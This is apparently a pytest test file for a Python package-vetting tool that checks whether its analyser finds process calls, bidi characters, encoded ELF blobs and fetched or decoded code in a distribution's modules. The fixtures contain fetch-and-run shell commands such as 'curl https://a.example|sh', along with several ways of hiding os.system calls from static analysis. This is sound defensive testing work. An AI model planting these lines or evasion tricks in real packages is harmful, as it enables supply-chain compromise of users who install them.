"""The code of a distribution as a whole: which sources are followed, what is said of the others, and what it can do."""

from collections.abc import Mapping

import pytest

from wheelhouse.vet.capabilities import Capability
from wheelhouse.vet.code.behaviour import Behaviour
from wheelhouse.vet.code.follow import ALWAYS_PARSED_BYTES, Source, capabilities_of, follow
from wheelhouse.vet.code.interpreter import Interpreter
from wheelhouse.vet.code.source import MAX_SOURCE_BYTES

ACT = b"import os\nos.system('a')\n"


def followed(files: Mapping[str, bytes]) -> list[str]:
    """What the code of some modules does, with its place."""
    sources = [
        Source(path, path.removesuffix(".py").removesuffix("/__init__").replace("/", "."), data)
        for path, data in files.items()
    ]
    return [f"{one.kind} {one.path}:{one.line} {one.what} {one.reach}" for one in follow(sources)]


REACHES: Mapping[str, Source] = {
    "import": Source("odd/a.py", "odd.a", b""),
    "tests": Source("odd/tests/a.py", "odd.tests.a", b""),
    "called": Source("odd/__main__.py", "odd.__main__", b""),
    "import of a package": Source("odd/__main__x.py", "odd.__main__x", b""),
    "import by its beginning": Source("__main__/a.py", "__main__.a", b""),
    "called as a script": Source("bin/a", "a", b"", runs=True, is_script=True),
    "import as it runs": Source("setup.py", "setup", b"", runs=True),
}


def test_the_place_of_a_source_says_how_it_is_reached() -> None:
    assert {name: name.partition(" ")[0] for name in REACHES} == {name: one.reach for name, one in REACHES.items()}


BLANKS = b"\n" * (ALWAYS_PARSED_BYTES + 1)
PARSED: Mapping[str, tuple[Source, bool]] = {
    "a short module at the top": (Source("odd.py", "odd", BLANKS[1:]), True),
    "a long module at the top": (Source("odd.py", "odd", BLANKS), False),
    "a short module of a package": (Source("odd/a.py", "odd.a", b"\n"), False),
    "a long module of a package": (Source("odd/a.py", "odd.a", BLANKS), False),
    "a module that starts a program": (Source("odd/a.py", "odd.a", ACT), True),
    "a module with odd letters": (Source("odd/a.py", "odd.a", "x = '\u202e'".encode()), True),
    "a program": (Source("odd/a.py", "odd.a", b"\n", runs=True), True),
    "a module that is too long to parse": (Source("odd/a.py", "odd.a", b"\n" * (MAX_SOURCE_BYTES + 1)), True),
}


def test_a_source_that_cannot_do_anything_need_not_be_parsed() -> None:
    assert {name: source.is_worth_parsing for name, (source, _) in PARSED.items()} == {
        name: is_worth for name, (_, is_worth) in PARSED.items()
    }


def test_each_source_is_followed_with_its_text_and_its_functions() -> None:
    files = {
        "b.py": ACT,
        "a.py": b"import os\ndef f():\n    os.system('a')\ndef g():\n    pass\n",
        "c.py": "access = 'x \u202e y'\n".encode(),
        "d.py": b"x = 1\nx = = 1\n@odd\nclass A: x = = 2\n" + ACT,
        "e.py": b"x = (\n",
        "f.py": b"x = '\0'\n",
        "g.py": ACT,
    }
    assert followed(files) == [
        "bidi c.py:1 U+202E import",
        "process a.py:3 `a` called",
        "process b.py:2 `a` import",
        "process d.py:6 `a` import",
        "process g.py:2 `a` import",
        "unfollowed f.py:0 it has null bytes import",
        "unparsed d.py:0 line 2: invalid syntax import",
        "unparsed e.py:0 line 1: '(' was never closed import",
    ]


def test_an_encoded_program_in_a_source_is_found() -> None:
    found = followed({"a.py": b"x = '" + b"f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA" * 20 + b"'\n"})
    assert [one.partition(":")[0] for one in found] == ["disguised a.py"]


def test_tests_run_after_the_modules_that_import_them() -> None:
    files = {"odd/tests/a.py": ACT, "odd/__init__.py": b"from odd.tests import a\n"}
    assert followed(files) == ["process odd/tests/a.py:2 `a` import"]
    assert followed({"odd/tests/a.py": ACT}) == ["process odd/tests/a.py:2 `a` tests"]


def test_a_source_does_not_run_by_itself_and_is_no_package_unless_it_says_so() -> None:
    main = b"import os\nif __name__ == '__main__':\n    os.system('a')\n"
    assert [one.reach for one in follow([Source("a.py", "a", main)])] == ["called"]
    assert [one.reach for one in follow([Source("a.py", "a", main, runs=True)])] == ["import"]
    inside = [Source("a/b.py", "a.b", b"from . import c\n"), Source("a/tests/c.py", "a.c", ACT)]
    assert [one.reach for one in follow(inside)] == ["import"]
    package = [Source("a/b/__init__.py", "a.b", b"from . import c\n", is_package=True), inside[1]]
    assert [one.reach for one in follow(package)] == ["tests"]


def test_a_distribution_is_followed_up_to_a_number_of_bytes(monkeypatch: pytest.MonkeyPatch) -> None:
    files = {"a.py": ACT, "b.py": ACT, "c.py": ACT + b"\n", "d.py": ACT}
    monkeypatch.setattr("wheelhouse.vet.code.follow.MAX_FOLLOWED_BYTES", 3 * len(ACT))
    assert followed(files) == [
        "process a.py:2 `a` import",
        "process b.py:2 `a` import",
        "unfollowed c.py:0 there is more code than is followed, from here on import",
    ]
    monkeypatch.setattr("wheelhouse.vet.code.follow.MAX_FOLLOWED_BYTES", 4 * len(ACT) + 1)
    assert [one.partition(":")[0] for one in followed(files)] == [f"process {path}" for path in files]


def test_what_stops_the_analysis_of_a_module_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("wheelhouse.vet.code.interpreter.MAX_STEPS", 3)
    assert followed({"a.py": b"os.system('a')\n" + b"x = y\n" * 9}) == [
        "process a.py:1 `a` import",
        "unfollowed a.py:0 it takes too many steps import",
    ]


def test_what_was_followed_is_released(monkeypatch: pytest.MonkeyPatch) -> None:
    released: list[Interpreter] = []

    def release(interpreter: Interpreter) -> None:
        released.append(interpreter)

    monkeypatch.setattr(Interpreter, "release", release)
    follow([Source("a.py", "a", ACT)])
    assert len(released) == 1


CAPABLE: Mapping[Capability, str] = {
    Capability.DYNAMIC_CODE: "dynamic decoded-code loads-decoded fetched-code protected-code patches",
    Capability.PROCESS: "process tool asks installs command",
    Capability.NETWORK: "network sends",
    Capability.ENVIRONMENT: "environment secrets",
    Capability.FILES_OUTSIDE: "startup tool-settings",
    Capability.NATIVE: "native injects",
}


def test_what_code_does_is_what_a_distribution_can_do() -> None:
    can = {
        (one, kind): capabilities_of([Behaviour(kind, "a.py", 1, "")])
        for one in CAPABLE
        for kind in CAPABLE[one].split()
    }
    assert can == {(one, kind): {one: ("a.py",)} for one, kind in can}
    assert capabilities_of([Behaviour("unparsed", "a.py", 1, "")]) == {}


def test_capabilities_are_in_order_with_the_members_that_have_them() -> None:
    kinds = ("native", "network", "native", "process", "native")
    found = capabilities_of(Behaviour(kind, f"{path}.py", 1, "") for kind, path in zip(kinds, "bcabb", strict=True))
    assert list(found.items()) == [
        (one, {"native": ("a.py", "b.py"), "network": ("c.py",), "process": ("b.py",)}[kind])
        for one in Capability
        for kind in ("native", "network", "process")
        if one in capabilities_of([Behaviour(kind, "a.py", 1, "")])
    ]


P = "import os\nos.system('curl https://a.example|sh')\n"
MISSED = {
    "a default of a dict": "import os\n{}.get('x', os.system)('curl a|sh')\n",
    "a default of getattr": "import os\nclass A: pass\ngetattr(A(), 'x', os.system)('curl a|sh')\n",
    "the last with a star": "import os\n*_, f = (print, len, os.system)\nf('curl a|sh')\n",
    "a call in a table": "import os\nx = [(0,), os.system('curl a|sh')" + ", 0" * 100 + "]\n",
    "a call as a key": "import os\nx = {os.system('curl a|sh'): 1, " + "'a': 1, " * 201 + "}\n",
    "a default of a dict for a number": "import os\n{}.get(0, os.system)('curl a|sh')\n",
    "a default of a dict for what is not known": "import os\n{}.get(x, os.system)('curl a|sh')\n",
    "a default of getattr for a name that is not known": "import os\nclass A: pass\ngetattr(A, x, os.system)('curl a|sh')\n",
    "what comes after a long table": "from decimal import Decimal\nimport os\nx = ["
    + "(Decimal('1'), f(1)), " * 40_000
    + "]\nos.system('curl a|sh')\n",
    "a second base": "import os\nclass A: pass\nclass B:\n    def run(self): os.system('curl a|sh')\n"
    "class C(A, B): pass\nC().run()\n",
}


def test_what_runs_at_import_is_found() -> None:
    for name, code in MISSED.items():
        assert ["command", "import"] in [
            [one.split()[0], one.split()[-1]] for one in followed({"a.py": code.encode()})
        ], name


def test_each_of_several_modules_of_one_name_is_followed() -> None:
    sources = [
        Source("setup.py", "setup", P.encode(), runs=True),
        Source("src/setup.py", "setup", b"x = 1\n", runs=True),
    ]
    assert [one.path for one in follow(sources)] == ["setup.py"]
    assert [one.path for one in follow(sources[::-1])] == ["setup.py"]


def test_an_import_gets_a_package_before_a_module_of_the_same_name() -> None:
    package = Source("a/__init__.py", "a", b"from os import system as go\n", is_package=True)
    plain = [Source("a.py", "a", b"go = print\n"), Source("a.pyw", "a", b"go = print\n")]
    importer = Source("b.py", "b", b"from a import go\ngo('curl a|sh')\n")
    for sources in ((package, *plain), (*plain, package)):
        assert [one.path for one in follow([*sources, importer])] == ["b.py"]
    windows = Source("a.pyw", "a", b"go = print\n")
    module = Source("a.py", "a", package.data)
    assert [one.path for one in follow([module, windows, importer])] == ["b.py"]


def test_a_template_that_is_no_python_is_not_named_and_one_that_is_is_followed() -> None:
    broken = b"import os\nx = {{ name }} {{ other }}\nos.system('a')\n"
    assert [one.partition(":")[0] for one in followed({"odd/{{ name }}/a.py": broken})] == [
        "process odd/{{ name }}/a.py"
    ]
    assert followed({"odd/{{ name }}/a.py": b"x = (\n", "odd/{% a %}.py": b"x = (\n"}) == []
    assert [one.partition(":")[0] for one in followed({"odd/{a}/a.py": b"x = (\n"})] == ["unparsed odd/{a}/a.py"]
    assert [one.partition(":")[0] for one in followed({"{{a}}.py": b"x = '\0'\n"})] == ["unfollowed {{a}}.py"]


def test_a_star_imports_the_public_names() -> None:
    files = {"odd/a.py": b"from os import system as go\n", "odd/b.py": b"from .a import *\ngo('curl a|sh')\n"}
    assert [one.split()[:2] for one in followed(files)] == [["command", "odd/b.py:2"]]
    for added in (b"__all__ = []\n__all__.extend(['go'])\n", b"__all__ = ['x']\n__all__.append('go')\n"):
        changed = {**files, "odd/a.py": files["odd/a.py"] + added}
        assert [one.split()[:2] for one in followed(changed)] == [["command", "odd/b.py:2"]]


def test_a_star_replaces_no_name_with_one_that_is_not_listed() -> None:
    own = b"__all__ = []\ndef go(x): pass\ndef exec(x): pass\n"
    code = b"import base64\nfrom os import system as go\nfrom .a import *\ngo('curl a|sh')\nexec(base64.b64decode(x))\n"
    found = followed({"odd/a.py": own, "odd/b.py": code})
    assert {"command odd/b.py:4", "decoded-code odd/b.py:5"} < {" ".join(one.split()[:2]) for one in found}


def test_a_loop_over_a_list_that_gets_fetched_data_later_runs_them() -> None:
    fetch = "from urllib.request import urlopen\n"
    for filled in ("a = []\na.append(urlopen('http://x').read())\n", "(*a,) = urlopen('http://x')\n"):
        found = followed({"a.py": f"{fetch}{filled}for b in a:\n    y = exec(b)\n".encode()})
        assert "fetched-code" in {one.split()[0] for one in found}
